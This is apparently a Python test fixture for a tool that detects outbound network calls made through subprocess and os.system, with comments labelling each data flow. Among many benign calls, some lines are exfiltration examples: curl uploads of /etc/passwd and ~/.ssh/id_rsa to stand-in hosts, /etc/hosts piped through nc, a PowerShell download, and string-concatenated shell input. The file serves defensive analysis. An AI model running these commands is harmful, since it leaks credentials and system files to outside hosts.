import os
import shlex
import subprocess
import sys

URL = "https://up.example.com/in"


def curl_string():
    os.system("curl -X POST -d @/etc/passwd https://up.example.com/in")  # sends: PERSON -> up.example.com


def curl_list(email):
    subprocess.run(["curl", "-d", email, URL])  # sends: EMAIL -> up.example.com


def curl_formatted(token):
    subprocess.run(f"curl -H 'X: {token}' --data x {URL}", shell=True)  # sends: SECRET -> up.example.com


def wget():
    subprocess.check_call(["wget", "-q", "https://down.example.com/f"])  # fetches: -> down.example.com


def copied(path):
    subprocess.call(["scp", path, "me@host.example.com:/tmp"])  # sends: -> host.example.com


def in_a_shell():
    subprocess.Popen(["sh", "-c", "cat /etc/hosts | nc drop.example.com 9000"])  # sends: -> drop.example.com


def to_a_bucket(path):
    subprocess.run(["aws", "s3", "cp", path, "s3://bucket/x"])  # sends: -> bucket


def elsewhere():
    subprocess.run(["ls", "-l"])
    os.system("make clean")
    subprocess.run(["git", "status"])
    subprocess.check_output(["gcloud", "config", "get-value", "project"])
    subprocess.run(["aws", "--version"])


def pushed():
    subprocess.run(["git", "push", "origin"])  # sends: -> ?


def key_file():
    os.system("curl -F file=@$HOME/.ssh/id_rsa https://up.example.com/k")  # sends: SECRET -> up.example.com


def from_a_bucket(path):
    subprocess.run(["aws", "s3", "sync", "s3://bucket/x", path])  # fetches: -> bucket


def with_an_address_of_its_own(path):
    subprocess.run(["aws", "s3", "cp", path, "s3://bucket/x", "--endpoint-url", "https://s3.acme.example"])  # sends: -> s3.acme.example


def services_that_a_program_is_there_for(path):
    subprocess.run(["aws", "sns", "publish", "--message", "done"])  # sends: -> amazonaws.com
    subprocess.run(["az", "storage", "blob", "upload", "--account-name", "acme", "-f", path])  # sends: -> acme.blob.core.windows.net
    subprocess.run("az storage blob download -c logs".split())  # fetches: -> *.blob.core.windows.net
    subprocess.run(["gsutil", "ls"])  # fetches: -> storage.googleapis.com
    os.system("twine upload dist/*")  # sends: -> upload.pypi.org


def split(url, path):
    subprocess.call(shlex.split("wget -q -O %s %s" % (path, url)))  # fetches: -> ?
    subprocess.call(f"curl -T {path} https://up.example.com/{url}".split())  # sends: FILE -> up.example.com


def put_together():
    command = ["rsync", "-a"]
    command += ["src/", "me@host.example.com:/srv"]
    subprocess.check_call(command)  # sends: FILE -> host.example.com


def of_many_words():
    subprocess.run(["curl", "-s", "-S", "-f", "-m", "10", "-A", "x", "-H", "A: b", "-H", "C: d", "-X", "POST", URL])  # sends: -> up.example.com


def by_an_interpreter():
    subprocess.check_call([sys.executable, "-m", "pip", "install", "x"])  # fetches: -> ?
    subprocess.run([sys.executable, "-m", "pytest"])
    subprocess.run(["git", "commit", "-m", "push it"])


def after_another_program(path):
    subprocess.run(["sshpass", "-p", "x", "scp", path, "u@h.example.com:/b"])  # sends: -> h.example.com


def by_powershell():
    os.system("powershell -c \"(New-Object Net.WebClient).DownloadFile('http://e.example.com/a', 'b')\"")  # fetches: -> e.example.com


def of_clusters_and_packages():
    subprocess.run(["kubectl", "apply", "-f", "x.yaml"])  # sends: -> ?
    subprocess.run(["npm", "publish"])  # sends: -> ?
    subprocess.run(["npm", "run", "build"])
    os.popen("ping -n 1 " + host)  # fetches: -> ?
